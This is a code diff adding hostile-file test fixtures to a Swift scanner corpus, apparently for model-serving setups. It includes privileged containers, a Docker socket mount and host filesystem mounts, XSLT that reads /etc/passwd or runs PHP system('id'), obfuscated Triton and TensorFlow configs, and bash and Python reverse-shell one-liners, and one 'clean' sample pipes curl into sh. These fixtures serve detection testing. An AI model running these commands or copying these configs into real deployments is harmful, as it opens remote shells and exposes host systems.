@@ -4,7 +4,7 @@ import TestSupport
 
 // Hostile files: what lies beside a model and is run, shown or read with it.
 extension Corpus {
-  static let companions: [HostileFile] = escapes + handlers + commands + shown + leaks
+  static let companions: [HostileFile] = escapes + handlers + commands + shown + leaks + servers
 
   private static func text(
     _ name: String, _ rule: Rule, _ file: String, _ text: String, clean: String? = nil
@@ -114,6 +114,71 @@ extension Corpus {
     HostileFile(
       "a shortcut", .activeDocument, .high, in: "a.lnk",
       bytes: { [0x4c, 0, 0, 0, 1, 0x14, 2, 0] + [UInt8](repeating: 0, count: 68) }),
+  ]
+
+  private static func compose(_ lines: String) -> String {
+    "services:\n  a:\n    image: x.y/a@sha256:\(String(repeating: "0", count: 64))\n\(lines)"
+  }
+
+  private static func transformation(_ select: String) -> String {
+    "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
+      + "<xsl:template match=\"/\"><xsl:value-of select=\"\(select)\"/></xsl:template>"
+      + "</xsl:stylesheet>\n"
+  }
+
+  private static func triton(_ lines: String) -> String {
+    "name: \"m\"\nmax_batch_size: 8\n\(lines)"
+  }
+
+  private static let servers: [HostileFile] = [
+    text(
+      "a container with all rights", .hostRights, "docker-compose.yml",
+      compose("    privileged: true\n"), clean: compose("    privileged: false\n")),
+    text(
+      "a container with its host's socket", .hostRights, "compose.yaml",
+      compose("    volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]\n"),
+      clean: compose(
+        "    volumes: [\"./models:/models:ro\", \"/etc/localtime:/etc/localtime:ro\"]\n")),
+    text(
+      "a container with its host's files", .hostRights, "compose.yml",
+      compose("    volumes:\n      - {type: bind, source: /, target: /host}\n"),
+      clean: compose("    volumes:\n      - {type: bind, source: ./a, target: /a}\n")),
+    text(
+      "a pod with its host's files", .hostRights, "pod.yaml",
+      "kind: Pod\nspec:\n  containers:\n  - {name: a, image: x}\n"
+        + "  volumes:\n  - {name: h, hostPath: {path: /etc}}\n",
+      clean: "kind: Pod\nspec:\n  containers:\n  - {name: a, image: x}\n"
+        + "  volumes:\n  - {name: h, emptyDir: {}}\n"),
+    text(
+      "a pod with all rights", .hostRights, "pod.yml",
+      "kind: Pod\nspec:\n  containers:\n  - name: a\n    securityContext: {privileged: true}\n"),
+    text(
+      "a transformation that reads a file", .activeDocument, "a.xsl",
+      transformation("document('/etc/passwd')"), clean: transformation("document('')/*")),
+    text(
+      "a transformation that calls PHP", .activeDocument, "b.xslt",
+      transformation("php:function('system', 'id')"), clean: transformation("title")),
+    text(
+      "Triton with a model in Python", .repositoryCode, "config.pbtxt",
+      triton("backend: \"pyth\" 'on'\n"), clean: triton("backend: \"onnxruntime\"\n")),
+    text(
+      "Triton with an environment of its own", .repositoryCode, "config.pbtxt",
+      triton(
+        "parameters: { key: \"EXECUTION_ENV_PATH\", value: { string_value: \"/tmp/e.tgz\" } }\n"),
+      clean: triton("parameters: { key: \"mode\", value: { string_value: \"fast\" } }\n")),
+    text(
+      "an operation of two texts in a row", .tensorFlowFiles, "graph.pbtxt",
+      "node {\n  name: \"a\"\n  op: \"Read\"\n    'File'\n}\n",
+      clean: "node {\n  name: \"a\"\n  op: \"Re\" \"lu\"\n}\n"),
+    text(
+      "a shell for a connection in prose", .shellInText, "notes.txt",
+      "To look around:\n\n    bash -i >& /dev/tcp/10.0.0.1/443 0>&1\n",
+      clean: "Install it:\n\n```bash\ncurl -fsSL https://x.y/install.sh | sh\n```\n"),
+    text(
+      "a shell by Python's sockets in prose", .shellInText, "notes.md",
+      "Run\npython3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);"
+        + "pty.spawn(\"sh\")'\n",
+      clean: "Servers listen on a socket; the shell is bash.\n"),
   ]
 
   /// A token of GitHub's form with its checksum, in parts.
